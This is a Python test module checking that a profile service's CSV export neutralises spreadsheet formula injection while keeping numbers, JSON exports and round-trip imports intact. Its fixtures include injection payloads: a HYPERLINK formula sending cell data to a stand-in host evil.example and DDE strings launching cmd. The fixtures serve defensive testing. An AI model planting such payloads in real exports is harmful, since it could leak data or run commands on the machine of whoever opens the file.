"""CSV injection (issue 16, item 8): profile fields that a spreadsheet would run as formulas when
an operator opens the export. CSV cells starting with = + - @ tab or CR get a leading quote
(OWASP); cells that are only a number (phone numbers in E.164, negative amounts) stay as they are;
JSON exports are untouched; an exported CSV imports back to the same values."""
from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from onecast.profiles.imports.tasks import process_imports

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
    "bare": "=",
}
NUMBERS = {"phone": "+447700900123", "spacedPhone": "+44 7700 900123", "debit": "-12.50"}
ORDINARY = {"name": "Ann O'Neil", "email": "ann@example.com", "note": "a = b, c - d", "city": "Leeds"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


async def _seed(space) -> None:
    body = {"id": "@evil", **HOSTILE, **NUMBERS, **ORDINARY, "address": {"line1": "=1+1"}, "=key": "x",
            "balance": -5, "tags": ["=1+1"]}
    assert (await space.post("/profiles", json=body)).status_code == 201, body


async def _export(space, fmt: str):
    answer = await space.post("/profiles/export", json={"format": fmt})
    assert answer.status_code == 200
    return answer


async def test_csv_export_neutralises_formulas(space):
    await _seed(space)
    text = (await _export(space, "csv")).text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, row = rows[0], dict(zip(rows[0], rows[1]))
    assert len(rows) == 2
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field
    assert row["id"] == "'@evil" and row["address.line1"] == "'=1+1" and "'=key" in header
    assert {field: row[field] for field in NUMBERS} == NUMBERS  # a number is not a formula
    assert {field: row[field] for field in ORDINARY} == ORDINARY
    assert row["balance"] == "-5" and row["tags"] == '["=1+1"]'
    for cell in [*header, *rows[1]]:
        assert cell[:1] not in FORMULA_STARTS or cell in (*NUMBERS.values(), "-5"), repr(cell)


async def test_json_exports_are_unchanged(space):
    await _seed(space)
    [doc] = (await _export(space, "json")).json()
    assert {field: doc[field] for field in (*HOSTILE, *NUMBERS, *ORDINARY)} == {**HOSTILE, **NUMBERS, **ORDINARY}
    assert doc["id"] == "@evil" and doc["address"] == {"line1": "=1+1"} and doc["=key"] == "x"
    [line] = (await _export(space, "ndjson")).text.splitlines()
    assert '"hyperlink": "=HYPERLINK(' in line


async def test_an_exported_csv_imports_back_to_the_same_values(app, space, other_space):
    await _seed(space)
    exported = (await _export(space, "csv")).content
    job = (await other_space.post("/profiles/import", json={"format": "csv", "mode": "upsert"})).json()["id"]
    uploaded = await other_space.put(f"/profiles/import/{job}/upload", content=exported,
                                     headers={"Content-Type": "text/csv"})
    assert uploaded.status_code == 200 and uploaded.json()["invalid"] == 0, uploaded.text
    await other_space.put(f"/profiles/import/{job}/start")
    assert await process_imports(app.state.db, "csv-round-trip") == 1
    copy = (await other_space.get("/profiles/@evil")).json()
    assert {f: copy[f] for f in (*HOSTILE, *NUMBERS, *ORDINARY)} == {**HOSTILE, **NUMBERS, **ORDINARY}
    assert copy["address"] == {"line1": "=1+1"} and copy["=key"] == "x"
    assert copy["balance"] == "-5"  # CSV cells are text (as for any CSV import)


@given(st.text(max_size=30))
def test_every_cell_is_safe_and_comes_back(value):
    from onecast.kit.csv_cells import neutralise, restore

    cell = neutralise(value)
    assert restore(cell) == value
    if cell[:1] in FORMULA_STARTS:
        assert cell == value and value.lstrip("+-").replace(" ", "").replace(".", "").isdigit()
